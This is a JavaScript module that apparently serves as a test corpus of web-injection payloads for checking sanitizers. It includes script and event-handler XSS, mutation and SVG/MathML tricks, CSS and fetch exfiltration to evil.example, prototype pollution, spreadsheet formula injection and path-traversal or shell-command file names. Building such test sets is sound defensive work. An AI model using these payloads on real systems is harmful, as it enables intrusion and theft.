// What people put into fields, files and names to make a page run it: markup
// in all spellings that have fooled some parser, kind by kind. Each payload
// calls `__ran`, or something else that a test sees, should it ever run; and
// each attribute, id, class, name or tag of its own has MARK in it, so that
// what became of it in a page can be told from what the page itself put there.

/** Stands in every name and value that a payload would leave in a page. */
export const MARK = 'wxss';

const RUN = `__ran('${MARK}')`;
const IMG = `<img src=${MARK} onerror=${RUN}>`;

const each = (list, make) => list.map(make);
const cross = (as, bs, make) => as.flatMap((a) => bs.map((b) => make(a, b)));

/** Script elements as parsers, filters and people spell them. */
const SCRIPTS = [
  ...each([
    ['<script>', '</script>'], ['<SCRIPT>', '</SCRIPT>'], ['<ScRiPt>', '</sCrIpT>'], ['<script >', '</script >'],
    ['<script\t>', '</script\t>'], ['<script\n>', '</script\n>'], ['<script/>', '</script>'], [`<script/${MARK}>`, '</script>'],
    [`<script ${MARK}>`, '</script>'], ['<script type=module>', '</script>'], ['<script type=text/javascript>', '</script>'],
    ['<script language=vbscript>', '</script>'], ['<script defer>', '</script>'], ['<script nonce=a>', '</script>'],
    ['<script>//<!--\n', '//--></script>'], ['<script><!--', '//--></script>'], ['<<script>', '</script>'], ['<script<>', '</script>'],
    ['<scr<script>ipt>', '</scr</script>ipt>'], ['<script>/*', `*/${RUN}</script>`], ['\\x3cscript\\x3e', '\\x3c/script\\x3e'],
    ['\\u003cscript\\u003e', '\\u003c/script\\u003e'], ['%3Cscript%3E', '%3C/script%3E'], ['&lt;script&gt;', '&lt;/script&gt;'],
    ['&#60;script&#62;', '&#60;/script&#62;'], ['&#x3C;script&#x3E;', '&#x3C;/script&#x3E;'], ['&amp;lt;script&amp;gt;', '&amp;lt;/script&amp;gt;'],
    ['+ADw-script+AD4-', '+ADw-/script+AD4-'], ['</p><script>', '</script><p>'], ['"><script>', '</script>'], ["'><script>", '</script>'],
    ['</title><script>', '</script>'], ['</textarea><script>', '</script>'], ['</script><script>', '</script>'], [']]><script>', '</script>'],
  ], ([start, end]) => start + RUN + end),
  `<script src=//evil.example/${MARK}.js></script>`,
  `<script src=https://evil.example/${MARK}.js async></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script>import('//evil.example/${MARK}.js')</script>`,
  `<script>document.title='${MARK}-ran'</script>`,
  `<script>fetch('//evil.example/${MARK}')</script>`,
  `<script>alert(document.cookie)</script>`,
];

/** Elements whose handlers fire by themselves or at a touch. */
const HANDLERS = [
  ...cross(['', '/', '\t', '\n', '" ', "' "], ['onerror', 'ONERROR', 'onError'], (gap, name) => `<img src=${MARK} ${gap}${name}=${RUN}>`),
  ...each([
    ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'],
    ['video><source', 'onerror'], ['details open', 'ontoggle'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['marquee', 'onstart'], ['iframe', 'onload'],
    ['object', 'onerror'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['div tabindex=0', 'onpointerover'],
    ['p style="animation:a 1s"', 'onanimationstart'], ['p style="transition:all 1s"', 'ontransitionend'], ['a href=#x', 'onclick'],
    ['form', 'onsubmit'], ['p contenteditable', 'oninput'], ['p contenteditable', 'onbeforeinput'], ['p', 'oncontextmenu'],
    ['div popover', 'onbeforetoggle'], ['dialog open', 'onclose'], ['p', 'onscrollend'], ['p', 'onselectstart'], ['p', 'oncopy'],
    ['p', 'onpaste'], ['p draggable=true', 'ondragstart'], ['frameset', 'onload'], ['isindex', 'onfocus'],
  ], ([tag, name]) => `<${tag} class=${MARK} ${name}="${RUN}">`),
];

/** Addresses that are programs, in each place for an address. */
const ADDRESSES = cross(
  [
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`,
    `&#106;avascript:${RUN}`, `javascript&colon;${RUN}`, `javascript://evil.example/%0a${RUN}`, `vbscript:${MARK}`,
    `data:text/html,<script>parent.${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#${MARK}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `blob:https://evil.example/${MARK}`,
    `//evil.example/${MARK}`, `file:///etc/passwd#${MARK}`,
  ],
  [
    (address) => address,
    (address) => `<a href="${address}">a</a>`,
    (address) => `<iframe src="${address}"></iframe>`,
    (address) => `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
  ],
  (address, place) => place(address),
);

const FOREIGN = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:text/javascript,${RUN}"/></svg>`, `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${RUN} class=${MARK}>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=9 id=${MARK}>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='${MARK}' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#${MARK}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><image href=//evil.example/${MARK} onerror=${RUN}>`, `<svg><style>@import '//evil.example/${MARK}'</style></svg>`,
  `<svg><title>${IMG}</title></svg>`, `<svg><desc>${IMG}</desc></svg>`, `<svg><handler type=text/javascript ev:event=load>${RUN}</handler></svg>`,
  `<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href=javascript:${RUN}>a</a></svg>`,
  `<svg><discard onbegin=${RUN}>`, `<svg><feImage href=//evil.example/${MARK}>`,
  `<math><a xlink:href=javascript:${RUN}>a</a></math>`, `<math href=javascript:${RUN}>a</math>`, `<math><mi ${MARK}=1 href=javascript:${RUN}>a</mi></math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>a</maction></math>`,
  `<math><annotation-xml encoding=text/html>${IMG}</annotation-xml></math>`, `<math><mtext>${IMG}</mtext></math>`,
  `<?xml version="1.0"?><html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script></html>`,
  `<xss:${MARK} onclick=${RUN}>`,
];

/** Nesting that is another one when it is parsed for the second time. */
const MUTATIONS = [
  ...cross(
    ['template', 'noscript', 'style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'iframe', 'select', 'plaintext'],
    [
      (tag) => `<${tag}><p title="</${tag}>${IMG}">`,
      (tag) => `<svg><${tag}><b id="</${tag}>${IMG}">`,
      (tag) => `<math><mtext><${tag}></math>${IMG}</${tag}>`,
    ],
    (tag, place) => place(tag),
  ),
  `<iframe srcdoc='<script>parent.${RUN}</script>'></iframe>`,
  `<iframe srcdoc="&lt;img src=${MARK} onerror=parent.${RUN}&gt;"></iframe>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${MARK} onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style>${IMG}">`, `<svg><p><style><g title='</style>${IMG}'>`,
  `<table><td><svg><desc><td></desc></svg>${IMG}`, `<select><option><style></option></select>${IMG}</style>`,
  `<a href=${MARK}><table><a href=${MARK}>${IMG}</table></a>`, `<b><p></b>${IMG}</p>`,
  `<template><s><template><s>${IMG}</s></template></s></template>`,
  `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
  `<listing>&lt;img src=${MARK} onerror=${RUN}&gt;</listing>`, `<form id=${MARK}><div></form><form id=${MARK}2>${IMG}`,
  `<p>&lt;/p&gt;&lt;img src=${MARK} onerror=${RUN}&gt;</p>`,
];

const REMARKS = [
  `<!--><script>${RUN}</script>-->`, `<!---><script>${RUN}</script>-->`, `<!--!><script>${RUN}</script>-->`, `<!-- --!>${IMG}-->`,
  `<!--<!-->${IMG}-->`, `<!-- a -- >${IMG} -->`, `<![CDATA[<script>${RUN}</script>]]>`, `<svg><![CDATA[>${IMG}]]></svg>`,
  `<![CDATA[]]]]><![CDATA[>${IMG}]]>`, `<?php echo '${MARK}' ?>${IMG}`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<?import namespace="${MARK}" ?>${IMG}`,
  `<!DOCTYPE html [<!ENTITY x "${MARK}">]>&x;${IMG}`, `<!DOCTYPE a SYSTEM "file:///etc/passwd"><a class=${MARK}>&b;</a>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`, `<comment>${IMG}</comment>`, `</${MARK}><!${MARK}><?${MARK}>`, `<%${MARK} ${RUN} %>`,
];

/** Quotes, entities and tags that end where nobody expects it. */
const BROKEN = [
  ...cross(['"', "'", '`', '">', "'>", '`>', '-->', '\\"', '\\\'', '"\'`>'], [`onfocus=${RUN} autofocus ${MARK}=`, IMG], (end, rest) => `${end} ${rest}`),
  `<img src="${MARK}" title="a" onerror="${RUN}`, `<img """>${IMG}">`, `<img src=${MARK} title="&quot; onerror=${RUN} &quot;" onerror=${RUN}>`,
  `<a title=&quot;${MARK} onclick=${RUN}&quot;>a`, `&lt${IMG}`, `&#0000060img src=${MARK} onerror=${RUN}&#62`, `<img src=${MARK} onerror=&#95;&#95;ran(1)>`,
  `<img src=${MARK} onerror\n=\n${RUN}`, `<img/src=${MARK}/onerror=${RUN}//`, `<i/${MARK}=1/onclick=${RUN}>`, `<a =${MARK} onclick=${RUN}>a</a>`,
  `<a "${MARK}" onclick=${RUN}>a`, `</p ${MARK} onclick=${RUN}>`, `<p/></p ${MARK}=1>${IMG}`, `<<img src=${MARK} onerror=${RUN}//<`,
];

const ELEMENTS = [
  `<base href=//evil.example/${MARK}/>`, `<base target=${MARK}>`, `<meta http-equiv=refresh content="0;url=//evil.example/${MARK}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=Content-Security-Policy content="default-src *" name=${MARK}>`,
  `<meta http-equiv=set-cookie content="${MARK}=1">`, `<meta charset=utf-7 name=${MARK}>`, `<link rel=stylesheet href=//evil.example/${MARK}.css>`,
  `<link rel=prefetch href=//evil.example/${MARK}>`, `<link rel=preconnect href=//evil.example class=${MARK}>`, `<link rel=manifest href=${MARK}>`,
  `<link rel=modulepreload href=//evil.example/${MARK}.js>`, `<object data=javascript:${RUN}></object>`, `<object data=//evil.example/${MARK}></object>`,
  `<embed src=javascript:${RUN}>`, `<embed src=//evil.example/${MARK} allowscriptaccess=always>`, `<applet code=${MARK} archive=//evil.example/a.jar></applet>`,
  `<iframe src=//evil.example/${MARK}></iframe>`, `<portal src=//evil.example/${MARK}></portal>`, `<frameset><frame src=//evil.example/${MARK}></frameset>`,
  `<form action=//evil.example/${MARK}><button>a</button></form>`, `<button formaction=javascript:${RUN} form=${MARK}>a</button>`,
  `<input type=image src=//evil.example/${MARK} formaction=javascript:${RUN}>`, `<video poster=//evil.example/${MARK}><track src=//evil.example/${MARK}></video>`,
  `<picture><source srcset=//evil.example/${MARK}><img src=${MARK}></picture>`, `<body background=//evil.example/${MARK}>`,
  `<a ping=//evil.example/${MARK} href=${MARK}>a</a>`, `<a target=_blank rel=opener href=//evil.example/${MARK}>a</a>`, `<bgsound src=javascript:${RUN}>`,
  `<map name=${MARK}><area href=javascript:${RUN} shape=default></map>`, `<q cite=javascript:${RUN} class=${MARK}>a</q>`, `<keygen autofocus onfocus=${RUN}>`,
];

/** Elements under names that scripts look for. */
const CLOBBERS = [
  ...each(['loading', 'room', 'panel', 'paste', 'whence', 'boot', 'dialog-title', 'body', 'head', 'cookie', 'trustedTypes', 'caches'],
    (id) => `<form id=${id} name=${id} class=${MARK}><input name=attributes id=${MARK}><input name=parentNode></form>`),
  ...each(['getElementById', 'createElement', 'querySelector', 'defaultView', 'currentScript', 'location'],
    (name) => `<img name=${name} id=${name} class=${MARK}>`),
  `<a id=${MARK}><a id=${MARK} name=href href="cid:${MARK}">`, `<iframe name=${MARK} srcdoc="<a id=b>"></iframe>`,
  `<x-${MARK} onclick=${RUN}></x-${MARK}>`, `<${MARK}-element is=${MARK}></${MARK}-element>`, `<button is=${MARK}>a</button>`,
  `<p slot=${MARK} part=${MARK} itemid=${MARK}>a</p>`, `<input id=source-box name=${MARK} value=${MARK}>`, `<mark data-claims=${MARK} aria-details=${MARK}>a</mark>`,
  `<div data-reader data-paragraph=0 class=${MARK}>a</div>`, `<label for=${MARK} popovertarget=${MARK}>a</label>`,
];

/** Names and shapes that spoil objects in scripts. */
const PROTOTYPES = [
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'then', 'toJSON',
  `{"__proto__":{"${MARK}":1}}`, `{"constructor":{"prototype":{"${MARK}":1}}}`, `__proto__[${MARK}]=1`, `constructor.prototype.${MARK}`,
  `{"format":"whence","version":1,"${MARK}":1}`, `","__proto__":{"${MARK}":1},"a":"`, `\\",\\"${MARK}\\":\\"`,
];

const TEMPLATES = [
  `{{constructor.constructor("${RUN}")()}}`, `{{7*7}}${MARK}`, `\${${RUN}}`, `\`\${${RUN}}\``, `#{${RUN}}`, `<%= ${RUN} %>`, `{% raw ${MARK} %}`,
  `[[${RUN}]]`, `@{${RUN}}`, `{${RUN}}`, `\${{${MARK}}}`, `{{{${MARK}}}}`, `<div ng-app class=${MARK}>{{$on.constructor('${RUN}')()}}</div>`,
  `<p v-html="'${IMG}'">`, `<p x-data=${MARK} x-init="${RUN}">`, `%s%n%x${MARK}`, `$(${RUN})`, `'+${RUN}+'`, `";${RUN};//`, `\u2028${RUN}`,
];

const STYLES = [
  `<style>*{background:url(//evil.example/${MARK})}</style>`, `<style>@import url(//evil.example/${MARK});</style>`,
  `<style>@font-face{font-family:a;src:url(//evil.example/${MARK})}*{font-family:a}</style>`,
  `<style>input[value^=a]{background:url(//evil.example/${MARK})}</style>`, `<p style="background:url(javascript:${RUN})">`,
  `<p style="width:expression(${RUN})">`, `<p style="-moz-binding:url(//evil.example/${MARK})">`, `<p style="behavior:url(${MARK}.htc)">`,
  `<p style="position:fixed;inset:0;z-index:9999" class=${MARK}>`, `</style><script>${RUN}</script>`, `red;background:url(//evil.example/${MARK})`,
  `}*{background:url(//evil.example/${MARK})}`, `"] , * { background: url(//evil.example/${MARK}) } [a="`, `\\22\\7d *{color:red}/*${MARK}*/`,
  `var(--${MARK})`, `url(//evil.example/${MARK})`, `<link rel=stylesheet href="data:text/css,*{display:none}" class=${MARK}>`, `--rows: 9; } :root { ${MARK}: 1`,
];

/** Characters that cannot be seen, turn the line round or look like others. */
const UNICODE = [
  ...each(['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u061c', '\u200e', '\u200f'], (sign) => `${sign}<script>${RUN}</script>`),
  ...each(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f'], (sign) => `<${sign}script>${RUN}</${sign}script>`),
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`, `\u2039script\u203a${RUN}`, `\u02c2img src=${MARK} onerror=${RUN}\u02c3`, `<\u017fcript>${RUN}</\u017fcript>`,
  `<ı${MARK} onclick=${RUN}>`, `<img src=${MARK} onerror\uff1d${RUN}>`, `\u0000<script>${RUN}</script>`, `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=${MARK}\u0000onerror=${RUN}>`, `\u0008\u0007\u001b[31m${MARK}`, `<script\u000b>${RUN}</script>`, `<img\u00a0src=${MARK}\u00a0onerror=${RUN}>`,
  `\u00c0\u00bcscript\u00c0\u00be${RUN}`, `\\ud800\\udc00${MARK}\\ud800`, `\ud800<script>${RUN}</script>`, `${MARK}\udfff`, `${'\u0301'.repeat(300)}${MARK}`,
  `\u{e0001}\u{e0041}${MARK}`, `${'\u202e'.repeat(99)}${MARK}`, `\u2028<script>${RUN}</script>\u2029`, `\ufffe${MARK}\uffff`,
];

/** Cells that a spreadsheet takes for a formula, and rows that end early. */
const CELLS = [
  `=HYPERLINK("http://evil.example/${MARK}","a")`, `=cmd|' /C calc'!${MARK}`, `+cmd|' /C calc'!${MARK}`, `-2+3+cmd|' /C calc'!${MARK}`, `@SUM(1+1)*${MARK}`,
  `=IMPORTXML("http://evil.example/${MARK}","//a")`, `=WEBSERVICE("http://evil.example/${MARK}")`, `\t=1+1${MARK}`, `\r=1+1${MARK}`, `%0A=1+1${MARK}`,
  `=DDE("cmd";"/C calc";"${MARK}")`, `"=1+1","${MARK}`, `a","=1+1",${MARK}`, `a\n=1+1,${MARK}`, `;=1+1;${MARK}`, `'=1+1${MARK}`,
];

/** Names of files that point elsewhere, are no names, or are something else than they look like. */
const NAMES = [
  `../../../../etc/${MARK}`, `..\\..\\windows\\${MARK}.ini`, `/etc/${MARK}`, `C:\\${MARK}.txt`, `\\\\evil.example\\${MARK}`, `file:///${MARK}`, `//evil.example/share/${MARK}`,
  `${MARK}\u202egpj.exe`, `${MARK}.html.txt.exe`, `CON.${MARK}`, `${MARK}${'a'.repeat(4000)}.txt`, `.${MARK}`, `${MARK}. . .`, `${MARK}?a=b#c`, `%2e%2e%2f${MARK}`,
  `${MARK}|${RUN}`, `;rm -rf ${MARK};`, `$(touch ${MARK})`, `\`touch ${MARK}\``, `${MARK}:stream.txt`, `${IMG}.txt`, `"${IMG}.txt`, `a/${IMG}/b.txt`, `${MARK}\u0000.html`,
];

/** All kinds by their name. */
export const KINDS = {
  'script elements': SCRIPTS,
  'event handlers': HANDLERS,
  'javascript: and data: addresses': ADDRESSES,
  'SVG and MathML': FOREIGN,
  'mutations': MUTATIONS,
  'comments, CDATA, instructions': REMARKS,
  'broken quotes and entities': BROKEN,
  'base, meta, link, object, embed': ELEMENTS,
  'clobbering, custom elements': CLOBBERS,
  'prototype keys': PROTOTYPES,
  'templates and string ends': TEMPLATES,
  'styles': STYLES,
  'Unicode': UNICODE,
  'cells and formulas': CELLS,
  'file names': NAMES,
};

/** All payloads in order, each with its kind and a number. */
export const PAYLOADS = Object.entries(KINDS)
  .flatMap(([kind, list]) => list.map((words) => ({ kind, words })))
  .map((payload, number) => ({ ...payload, number }));
